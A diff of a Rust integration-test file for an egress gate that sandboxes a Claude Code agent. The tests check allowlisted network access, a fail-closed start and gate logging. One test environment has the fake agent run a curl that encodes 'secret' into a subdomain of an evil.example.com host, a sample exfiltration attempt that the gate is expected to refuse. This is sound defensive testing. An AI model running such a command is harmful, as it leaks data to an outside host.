@@ -11,12 +11,11 @@ use fixtures::report::frames;
 use futures_util::StreamExt;
 use serde_json::{Value, json};
 
-use crate::fixture::{
-    CLAUDE_CODE_IMAGE, FIXTURES_IMAGE, Service, TEST_LABEL, TestContainer, TestNetwork,
-    fixture_json, start_mock, start_service,
+use crate::support::{
+    BASE_IMAGE, CLAUDE_CODE_IMAGE, FAKE_CLAUDE_IMAGE, FIXTURES_IMAGE, Sandbox, Service, Session,
+    TEST_LABEL, TestContainer, TestNetwork, engine_with, fixture_json, kill_9, leftovers,
+    run_label, running_agent, with_real_claude,
 };
-use crate::launch::{Session, fake_claude_present, kill_9, leftovers, running_agent};
-use crate::support::Sandbox;
 
 /// "The internet" for one test: an allowed service and a sink that must
 /// never hear from the bottle, on a network of their own.
@@ -35,23 +34,15 @@ impl Outside {
     async fn new(docker: &Docker, bottle_label: &str, mock_script: Option<&Value>) -> Self {
         let label = &format!("{bottle_label}-outside");
         let network = TestNetwork::create(docker, label).await;
-        let service = |cmd, env, alias| Service {
-            image: FIXTURES_IMAGE,
-            cmd,
-            env,
-            network: &network,
-            alias,
-            runtime: "runc",
-            binds: &[],
-        };
-        let (allowed_container, allowed) =
-            start_service(docker, label, &service(&["sink"], &[], "allowed")).await;
-        let (sink_container, sink) =
-            start_service(docker, label, &service(&["sink"], &[], "sink")).await;
+        let (allowed_container, allowed) = Service::sink(&network, "allowed")
+            .start(docker, label)
+            .await;
+        let (sink_container, sink) = Service::sink(&network, "sink").start(docker, label).await;
         let mut services = vec![allowed_container, sink_container];
         let mut mock = None;
         if let Some(script) = mock_script {
-            let (mock_container, address) = start_mock(docker, label, &network, script).await;
+            let (mock_container, address) =
+                Service::mock(&network, script).start(docker, label).await;
             services.push(mock_container);
             mock = Some(address);
         }
@@ -88,7 +79,7 @@ fn sandbox(label: &str, outside: &Outside, image: &str, env: &Value) -> Sandbox 
 }
 
 fn label(test: &str) -> String {
-    format!("egress-{test}-{}", std::process::id())
+    run_label(&format!("egress-{test}"))
 }
 
 async fn container_address(docker: &Docker, label: &str, role: &str) -> String {
@@ -120,7 +111,9 @@ async fn container_address(docker: &Docker, label: &str, role: &str) -> String {
 
 #[tokio::test]
 async fn inside_a_bottle_only_the_gate_leads_out_and_only_to_the_allowlist() {
-    let Some(docker) = fake_claude_present("egress from a bottle").await else {
+    let Some(docker) =
+        engine_with("egress from a bottle", &[FAKE_CLAUDE_IMAGE, FIXTURES_IMAGE]).await
+    else {
         return;
     };
     let label = label("inside");
@@ -131,7 +124,7 @@ async fn inside_a_bottle_only_the_gate_leads_out_and_only_to_the_allowlist() {
     let other = sandbox(
         &other_label,
         &outside,
-        crate::fixture::FAKE_CLAUDE_IMAGE,
+        FAKE_CLAUDE_IMAGE,
         &json!({ "FAKE_CLAUDE_READ_STDIN": "1" }),
     );
     let other_session = Session::spawn(&other, &["start", "a", "--yes"]);
@@ -153,7 +146,7 @@ async fn inside_a_bottle_only_the_gate_leads_out_and_only_to_the_allowlist() {
     let bottle = sandbox(
         &label,
         &outside,
-        crate::fixture::FAKE_CLAUDE_IMAGE,
+        FAKE_CLAUDE_IMAGE,
         &json!({ "FAKE_CLAUDE_RUN": script }),
     );
     let out = bottle.run(&["start", "a", "--yes"]);
@@ -219,7 +212,7 @@ async fn inside_a_bottle_only_the_gate_leads_out_and_only_to_the_allowlist() {
 
 #[tokio::test]
 async fn real_claude_code_reaches_the_mock_through_the_gate_and_its_curl_is_refused() {
-    let Some(docker) = fake_claude_present("real claude behind the gate").await else {
+    let Some(docker) = with_real_claude("real claude behind the gate").await else {
         return;
     };
     let label = label("real");
@@ -263,7 +256,8 @@ async fn real_claude_code_reaches_the_mock_through_the_gate_and_its_curl_is_refu
 
 #[tokio::test]
 async fn a_gate_that_cannot_start_means_no_agent_container_and_nothing_left() {
-    let Some(docker) = fake_claude_present("fail closed").await else {
+    let Some(docker) = engine_with("fail closed", &[FAKE_CLAUDE_IMAGE, FIXTURES_IMAGE]).await
+    else {
         return;
     };
     let label = label("closed");
@@ -274,13 +268,8 @@ async fn a_gate_that_cannot_start_means_no_agent_container_and_nothing_left() {
         .as_secs()
         - 1;
     // An image that is no gate: it cannot run the gate's command.
-    let bottle = sandbox(
-        &label,
-        &outside,
-        crate::fixture::FAKE_CLAUDE_IMAGE,
-        &json!({}),
-    )
-    .env("CLAUDE_BOTTLE_GATE_IMAGE", crate::fixture::BASE_IMAGE);
+    let bottle = sandbox(&label, &outside, FAKE_CLAUDE_IMAGE, &json!({}))
+        .env("CLAUDE_BOTTLE_GATE_IMAGE", BASE_IMAGE);
     let out = bottle.run(&["start", "a", "--yes"]);
     assert_eq!(out.code, 125, "{out:?}");
     assert!(out.stderr.contains("error: the egress gate"), "{out:?}");
@@ -321,7 +310,8 @@ async fn a_gate_that_cannot_start_means_no_agent_container_and_nothing_left() {
 
 #[tokio::test]
 async fn logs_shows_a_running_instances_decisions_and_kill_9_takes_the_gate_down() {
-    let Some(docker) = fake_claude_present("logs and kill -9").await else {
+    let Some(docker) = engine_with("logs and kill -9", &[FAKE_CLAUDE_IMAGE, FIXTURES_IMAGE]).await
+    else {
         return;
     };
     let label = label("logs");
@@ -330,7 +320,7 @@ async fn logs_shows_a_running_instances_decisions_and_kill_9_takes_the_gate_down
         "FAKE_CLAUDE_RUN": "curl -s http://allowed/ >/dev/null; curl -s http://c2VjcmV0.evil.example.com/ >/dev/null",
         "FAKE_CLAUDE_READ_STDIN": "1",
     });
-    let bottle = sandbox(&label, &outside, crate::fixture::FAKE_CLAUDE_IMAGE, &env);
+    let bottle = sandbox(&label, &outside, FAKE_CLAUDE_IMAGE, &env);
     let session = Session::spawn(&bottle, &["start", "a", "--yes"]);
     running_agent(&docker, &label, &session).await;
     let deadline = Instant::now() + Duration::from_secs(30);
@@ -338,7 +328,7 @@ async fn logs_shows_a_running_instances_decisions_and_kill_9_takes_the_gate_down
         assert!(Instant::now() < deadline, "the requests never ran");
         tokio::time::sleep(Duration::from_millis(50)).await;
     }
-    let instance = crate::cleanup::wait_for_instance(&session).await;
+    let instance = crate::support::wait_for_instance(&session).await;
     let logs = bottle.run(&["logs", &instance]);
     assert_eq!(logs.code, 0, "{logs:?}");
     let lines: Vec<Value> = logs
